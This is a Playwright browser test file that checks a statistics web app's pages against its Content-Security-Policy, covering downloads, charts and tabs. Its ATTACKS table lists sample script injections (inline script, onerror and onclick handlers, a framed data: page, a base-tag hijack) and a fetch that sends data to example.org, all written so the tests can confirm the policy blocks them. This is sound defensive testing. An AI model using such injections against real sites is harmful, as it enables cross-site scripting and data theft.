"""The strict policy of the pages: nothing of ours breaks it, and what is not ours is not run."""

from collections.abc import Callable, Iterator

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page

from dantoc.l10n.messages import say
from tests.browser.conftest import WIDE, settle
from tests.browser.test_every_page import LOCALES, PAGES, path_of

pytestmark = pytest.mark.browser

WATCH = """() => {
    window.refused = [];
    document.addEventListener("securitypolicyviolation", (event) =>
        window.refused.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sample}`));
}"""
CHART = "[data-testid=stVegaLiteChart] svg, [data-testid=stVegaLiteChart] canvas"

Watched = Callable[[str], Page]


@pytest.fixture
def watched(chromium: Browser, site: str, lang: str) -> Iterator[Watched]:
    """Opens a page; whatever its policy refuses, or the console says of it, fails the test."""
    context = chromium.new_context(base_url=site, locale=LOCALES[lang], viewport=WIDE)
    context.add_init_script(f"({WATCH})()")
    page = context.new_page()
    said: list[str] = []

    def hear(message: ConsoleMessage) -> None:
        if message.type == "error" or "olicy" in message.text:
            said.append(message.text)

    def visit(path: str) -> Page:
        page.goto(path)
        settle(page)
        return page

    page.on("console", hear)
    yield visit
    refused = page.evaluate("window.refused")
    context.close()
    assert not refused
    assert not [text for text in said if "Failed to load resource" not in text]


@pytest.mark.parametrize("lang", LOCALES)
@pytest.mark.parametrize("name", PAGES)
def test_every_page_draws_itself_within_its_policy(watched: Watched, name: str, lang: str):
    page = watched(path_of(name, lang))
    if name in ("chart", "map"):
        page.wait_for_selector(CHART)
    if name == "dataset":
        assert page.locator("[data-testid=stMain] table").first.locator("td").count() > 10
    if name == "take-home":
        assert page.locator("a[href*='format=xlsx']").first.is_visible()
    if name == "catalogue":
        miniature = page.locator(".result-picture").first
        miniature.wait_for()
        assert miniature.evaluate("box => getComputedStyle(box).maskImage").startswith('url("data:image/svg+xml')


@pytest.mark.parametrize("lang", LOCALES)
def test_tabs_tables_charts_and_files_follow_each_other_within_the_policy(watched: Watched, lang: str):
    page = watched(f"/dataset?id=population_census&lang={lang}")
    for tab in ("chart", "about", "codebook", "sources", "take", "table"):
        page.get_by_role("tab", name=say(f"pages.tab.{tab}", lang), exact=True).click()
        settle(page)
    page.get_by_role("tab", name=say("pages.tab.take", lang), exact=True).click()
    settle(page)
    for kind in ("xlsx", "csv", "parquet", "json"):
        with page.expect_download() as waiting:
            page.locator(f'a[href*="format={kind}"]').first.evaluate(
                """link => {
                    link.setAttribute("download", "");
                    link.click();
                }"""
            )
        assert waiting.value.path().stat().st_size > 100


ATTACKS = {
    "a script written into the page": """
        document.body.append(Object.assign(document.createElement("script"), {text: "window.broken = 1"}))""",
    "a handler in markup": """
        document.body.insertAdjacentHTML("beforeend", "<img src=/none onerror='window.broken = 1'>")""",
    "a handler in an attribute": """
        const button = document.createElement("button");
        button.setAttribute("onclick", "window.broken = 1");
        document.body.append(button);
        button.click();""",
    "a script of another site": """
        document.body.append(Object.assign(document.createElement("script"), {src: "https://example.org/a.js"}))""",
    "a page in a frame": """
        const page = "data:text/html,<script>parent.broken = 1</script>";
        document.body.append(Object.assign(document.createElement("iframe"), {src: page}))""",
    "another base for all addresses": """
        document.head.append(Object.assign(document.createElement("base"), {href: "https://example.org/"}))""",
    "what is read sent elsewhere": """
        fetch("https://example.org/?all").catch(() => 0)""",
}


@pytest.mark.parametrize("way", ATTACKS)
def test_what_is_written_into_a_page_is_not_run(chromium: Browser, site: str, way: str):
    context = chromium.new_context(base_url=site, viewport=WIDE)
    context.add_init_script(f"({WATCH})()")
    page = context.new_page()
    page.goto("/methods")
    settle(page)
    page.evaluate(f"() => {{ {ATTACKS[way]} }}")
    page.wait_for_function("() => window.refused.length > 0")
    assert page.evaluate("window.broken") is None
    context.close()


@pytest.mark.parametrize("kind", ["chart.html", "chart.svg", "chart.png", "data?format=html&year=2019&area=VN"])
def test_charts_and_tables_stand_alone_within_their_policy(chromium: Browser, site: str, kind: str):
    address = f"{site}/api/v1/datasets/population_census/{kind}"
    context = chromium.new_context(viewport=WIDE)
    context.add_init_script(f"({WATCH})()")
    page = context.new_page()
    said: list[str] = []
    page.on("console", lambda message: said.append(message.text))
    page.goto(address)
    assert page.locator("svg, img, table").first.bounding_box()["width"] > 100
    assert page.evaluate("window.refused") == []
    context.close()
    assert not [text for text in said if "olicy" in text]
